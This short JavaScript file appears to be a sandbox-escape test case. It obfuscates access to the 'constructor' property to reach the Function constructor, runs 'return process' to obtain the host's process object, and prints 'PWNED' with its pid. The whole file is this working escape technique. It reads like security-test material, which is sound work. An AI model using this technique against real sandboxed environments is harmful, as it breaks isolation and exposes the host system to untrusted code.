'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
class B { a() { return t; } }
class D extends B { a() { return super.a(); } }
const o = Date.now() > 1 ? new D().a() : {};
console.log('PWNED', o.go(fn)('return process')().pid);
